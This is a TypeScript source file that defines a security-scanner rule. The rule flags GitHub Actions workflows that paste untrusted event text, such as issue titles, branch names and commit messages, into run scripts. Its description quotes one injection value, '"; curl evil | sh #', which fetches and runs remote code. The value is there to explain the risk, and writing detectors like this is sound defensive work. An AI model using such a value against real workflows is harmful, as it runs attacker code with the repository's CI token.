import { expressions, stepsOf } from '../actions.js';
import { defineRule, get, lineWithin, path, str, type YamlDoc } from '../model.js';

/**
 * Context values an outsider controls: issue/PR/comment text, branch names, commit messages,
 * author names and emails. Numbers, SHAs and repository ids are not attacker-chosen text.
 */
const UNTRUSTED = [
  /^github\.event\.(issue|pull_request|discussion|comment|review|review_comment|release|pages|workflow_run|check_run|check_suite)\b.*\.(title|body|name|message|label|ref|head_branch|head_ref|default_branch|email|page_name|description)\b/,
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
  /^github\.event\.(head_commit|commits\[\S*\])\.(message|author\.(name|email)|committer\.(name|email))$/,
  /^github\.event\.commits\b.*\.(message|author|committer)/,
  /^github\.head_ref$/,
  /^github\.event\.workflow_run\.(head_branch|head_commit\.message|display_title)/,
  /^inputs\./, // workflow_dispatch / workflow_call inputs are caller-chosen strings
];

function untrusted(expr: string): boolean {
  // `contains(github.event.issue.title, 'x')` evaluates to a boolean: not text that reaches the shell.
  if (/^[a-zA-Z]+\(/.test(expr) && !/^(format|join|toJSON)\(/.test(expr)) return false;
  return expr.split(/\s*(?:\|\||&&)\s*|[(),]\s*/).some((part) => UNTRUSTED.some((re) => re.test(part.trim())));
}

export const rule = defineRule<YamlDoc>({
  meta: {
    id: 'iac/gha-script-injection', title: 'Untrusted input interpolated into a workflow script', analyzer: 'iac', severity: 'high', confidence: 'high',
    cwe: [78, 94], owasp: 'A03:2021-Injection', tags: ['github-actions', 'ci', 'injection', 'ai-common'],
    description: 'A `${{ github.event.… }}` expression inside `run:` (or an `actions/github-script` script) is pasted into the script before it runs, so an issue title or branch name like `"; curl evil | sh #` executes in the runner with the workflow\'s token.',
    fix: 'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.issue.title }} }` then `run: echo "$TITLE"`.',
    examples: { lang: 'yaml', bad: 'run: echo "${{ github.event.issue.title }}"', good: 'env:\n  TITLE: ${{ github.event.issue.title }}\nrun: echo "$TITLE"' },
  },
  refs: { checkov: 'CKV_GHA_2', semgrep: 'yaml.github-actions.security.run-shell-injection.run-shell-injection', zizmor: 'template-injection' },
  applies: ['github-actions'],
  check(d) {
    return stepsOf(d).flatMap((s) => {
      const uses = str(get(s.node, 'uses')) ?? '';
      const script = get(s.node, 'run') ?? (uses.startsWith('actions/github-script@') ? path(s.node, 'with', 'script') : undefined);
      const text = str(script);
      if (!script || !text) return [];
      return expressions(text).filter((e) => untrusted(e.inner)).map((e) => ({
        line: lineWithin(d, script, e.raw),
        message: `job '${s.job}' interpolates ${e.inner} into a script`,
      }));
    });
  },
});
